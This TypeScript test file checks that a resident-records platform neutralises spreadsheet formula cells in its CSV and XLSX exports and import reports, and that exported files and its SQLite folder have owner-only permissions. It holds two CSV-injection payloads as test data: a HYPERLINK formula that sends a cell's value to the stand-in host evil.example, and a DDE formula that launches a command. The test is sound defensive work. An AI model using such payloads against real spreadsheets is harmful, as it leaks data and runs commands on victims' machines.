import { chmod, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeCsv } from '../../scripts/people/csv-file.js';
import { neutraliseCell } from '../../scripts/people/csv-safe.js';
import { exportForm } from '../../scripts/people/form.js';
import { importFile } from '../../scripts/people/import-file.js';
import { openDatabase } from '../../subgraphs/kit/src/database.js';
import { graphql, tokenFor } from '../support/graphql.js';
import { startPlatform, type Platform } from '../support/platform.js';
import { demoWorld } from '../support/world.js';

/**
 * Issue 14, item 7: formula cells (CSV injection) and file modes. Values an attacker can
 * store through the graph, an address and a grid name that a spreadsheet would run, are
 * exported as CSV and XLSX and come back through an import report: every CSV cell that
 * would start a formula is neutralised with a leading `'` (OWASP), every XLSX cell is text,
 * and every file written is 0600, the SQLite data folder 0700.
 */
const ADDRESS = '=HYPERLINK("http://evil.example/x?d="&A2,"点击查看")';
const GRID_NAME = "@SUM(1+1)*cmd|' /C calc'!A0";
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const startsFormula = (cell: string) => TRIGGERS.some((trigger) => cell.startsWith(trigger));
const modeOf = (path: string) => statSync(path).mode & 0o777;

let platform: Platform;
let dir: string;
const tally = { tried: 0, held: 0 };
/** One formula cell as it came out: held when it cannot run. */
function check(held: boolean): void {
  tally.tried += 1;
  if (held) tally.held += 1;
}

beforeAll(async () => {
  platform = await startPlatform();
  dir = await mkdtemp(join(tmpdir(), 'csv-injection-'));
});
afterAll(async () => {
  await platform?.stop();
  if (dir) await rm(dir, { recursive: true, force: true });
  process.stdout.write(`security/csv-injection: ${tally.held} of ${tally.tried} formula cells and file modes held\n`);
});

const csvRows = async (file: string) => parse(await readFile(file), { bom: true }) as string[][];

describe('the CSV cell rule', () => {
  it('prefixes a quote to text starting with = + - @ tab or carriage return, and leaves the rest and numbers alone', async () => {
    for (const trigger of TRIGGERS) {
      const value = `${trigger}1+1`;
      check(neutraliseCell(value) === `'${value}`);
      expect(neutraliseCell(value)).toBe(`'${value}`);
    }
    for (const safe of ['张三', '3栋2单元501', "'=already quoted", ' =1+1', '', '510116001011'])
      expect(neutraliseCell(safe)).toBe(safe);
    expect(neutraliseCell(-5)).toBe(-5);
    const file = join(dir, 'cells.csv');
    await writeCsv(file, [
      ['a', 'b'],
      [ADDRESS, '\t=1+1'],
      [GRID_NAME, 42],
    ]);
    expect(await csvRows(file)).toEqual([
      ['a', 'b'],
      [`'${ADDRESS}`, "'\t=1+1"],
      [`'${GRID_NAME}`, '42'],
    ]);
  });
});

describe('formula values stored through the graph', () => {
  let community: string;
  let grid: { id: string; code: string };
  let resident: { id: string; name: string };
  let worker: string;

  beforeAll(async () => {
    const world = demoWorld();
    const micro = world.grids.find(
      (row) => row.type === 'MICRO' && world.people.some((person) => person.areaCode === row.code),
    )!;
    grid = { id: micro.id, code: micro.code };
    community = micro.communityCode;
    const person = world.people.find((row) => row.areaCode === micro.code)!;
    resident = { id: person.id, name: person.name };
    worker = await tokenFor('COMMUNITY_WORKER', [community], { subject: 'csv-injection-worker' });
    const household = await graphql(
      platform.gatewayUrl,
      'mutation($input: CreateHouseholdInput!) { createHousehold(input: $input) { household { address } userErrors { code } } }',
      { token: worker, variables: { input: { headPersonId: resident.id, address: ADDRESS } } },
    );
    expect(household.data?.createHousehold).toEqual({ household: { address: ADDRESS }, userErrors: [] });
    const renamed = await graphql(
      platform.gatewayUrl,
      'mutation($input: UpdateGridInput!) { updateGrid(input: $input) { grid { name } userErrors { code } } }',
      { token: worker, variables: { input: { id: grid.id, name: GRID_NAME } } },
    );
    expect(renamed.data?.updateGrid).toEqual({ grid: { name: GRID_NAME }, userErrors: [] });
  });

  const form = (format: 'csv' | 'xlsx', out: string) =>
    exportForm({
      gatewayUrl: platform.gatewayUrl,
      token: worker,
      area: grid.code,
      tags: [],
      // 身份证号 (masked here) because the form's query declares $purpose, which a query must use.
      columns: ['姓名', '住址', '网格', '身份证号'],
      format,
      out,
      purpose: null,
    });

  it('come out of `npm run export -- --format csv` neutralised, in a file only its owner reads', async () => {
    const out = join(dir, 'form.csv');
    // An older export others could read: writing over it narrows it.
    await writeFile(out, 'old');
    await chmod(out, 0o644);
    await form('csv', out);
    const rows = await csvRows(out);
    const row = rows.find((cells) => cells[0] === resident.name)!;
    expect(row.slice(0, 3)).toEqual([resident.name, `'${ADDRESS}`, `'${GRID_NAME}`]);
    check(row[1] === `'${ADDRESS}`);
    check(row[2] === `'${GRID_NAME}`);
    // Every resident of the renamed grid carries the grid name: none of those cells can run.
    const gridCells = rows.slice(1).map((cells) => cells[2]!);
    expect(gridCells.length).toBeGreaterThan(0);
    expect(rows.flat().filter(startsFormula)).toEqual([]);
    check(modeOf(out) === 0o600);
    expect(modeOf(out)).toBe(0o600);
  });

  it('come out of the XLSX export as text cells, never formulas, in a file only its owner reads', async () => {
    const out = join(dir, 'form.xlsx');
    await form('xlsx', out);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const sheet = workbook.worksheets[0]!;
    let found = false;
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
      });
      if (row.getCell(1).value !== resident.name) return;
      found = true;
      // Kept as the text it is: a text cell shows it and never runs it.
      expect([row.getCell(2).value, row.getCell(3).value]).toEqual([ADDRESS, GRID_NAME]);
      check(row.getCell(2).type === ExcelJS.ValueType.String && row.getCell(3).type === ExcelJS.ValueType.String);
    });
    expect(found).toBe(true);
    // The sheet's XML holds no formula element at all.
    const zip = await JSZip.loadAsync(await readFile(out));
    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    check(!/<f[ >]/.test(xml));
    expect(xml).not.toMatch(/<f[ >]/);
    check(modeOf(out) === 0o600);
    expect(modeOf(out)).toBe(0o600);
  });

  it('come out of an import report neutralised, the report beside the file only its owner reads', async () => {
    for (const [name, payload] of [
      ['address', ADDRESS],
      ['grid', GRID_NAME],
    ] as const) {
      const file = join(dir, `import-${name}.xlsx`);
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('人口');
      // The payload as a column header the import does not know: the report names it.
      sheet.addRow(['姓名', '身份证号', '网格编码', payload]);
      sheet.addRow(['王五', '123', grid.code, payload]);
      await workbook.xlsx.writeFile(file);
      const summary = await importFile({ file, gatewayUrl: platform.gatewayUrl, token: worker, mode: 'CREATE_ONLY' });
      expect(summary.ignoredColumns).toEqual([payload]);
      const rows = await csvRows(summary.reportFile);
      const note = rows.find((cells) => cells[2] === 'IGNORED_COLUMNS')!;
      expect(note[3]).toBe(`'${payload}`);
      check(note[3] === `'${payload}`);
      expect(rows.flat().filter(startsFormula)).toEqual([]);
      check(modeOf(summary.reportFile) === 0o600);
      expect(modeOf(summary.reportFile)).toBe(0o600);
    }
  });
});

describe('the SQLite data folder', () => {
  it('is created 0700 with the database file 0600, and an older file others could read is narrowed', async () => {
    const folder = join(dir, 'data', 'nested');
    const file = join(folder, 'people.sqlite');
    const db = await openDatabase({ url: `sqlite:${file}`, entities: [], migrations: [] });
    await db.dataSource.query('CREATE TABLE t (x INTEGER)');
    await db.dataSource.query('INSERT INTO t VALUES (1)');
    for (const path of [join(dir, 'data'), folder]) {
      check(modeOf(path) === 0o700);
      expect(modeOf(path)).toBe(0o700);
    }
    for (const path of [file, `${file}-wal`]) {
      check(modeOf(path) === 0o600);
      expect(modeOf(path)).toBe(0o600);
    }
    await db.dataSource.destroy();

    await chmod(file, 0o644);
    const again = await openDatabase({ url: `sqlite:${file}`, entities: [], migrations: [] });
    expect((await stat(file)).size).toBeGreaterThan(0);
    check(modeOf(file) === 0o600);
    expect(modeOf(file)).toBe(0o600);
    await again.dataSource.destroy();
  });

  it('every formula cell and file mode held', () => {
    expect(tally.tried).toBeGreaterThan(0);
    expect(tally.held).toBe(tally.tried);
  });
});
